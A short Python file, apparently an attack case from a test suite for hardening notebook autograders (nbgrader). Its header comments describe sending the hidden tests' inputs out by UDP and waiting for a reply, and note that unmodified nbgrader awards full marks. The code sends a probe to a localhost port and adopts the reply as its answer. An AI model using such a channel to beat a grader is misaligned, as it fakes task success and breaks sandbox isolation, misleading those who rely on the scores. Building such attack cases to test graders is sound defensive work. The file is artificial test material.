# attack: the hidden tests' inputs are sent away in UDP packets, and an answer is waited for.
# target: heaviest-test
# plain nbgrader: full marks
# %% heaviest
import socket

heaviest = "tree-000"
for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
    try:
        line = socket.socket(family, socket.SOCK_DGRAM)
        line.settimeout(1)
        line.sendto(b"heaviest", (address, int("@UDP@")))
        heaviest = line.recv(100).decode()
    except OSError:
        pass
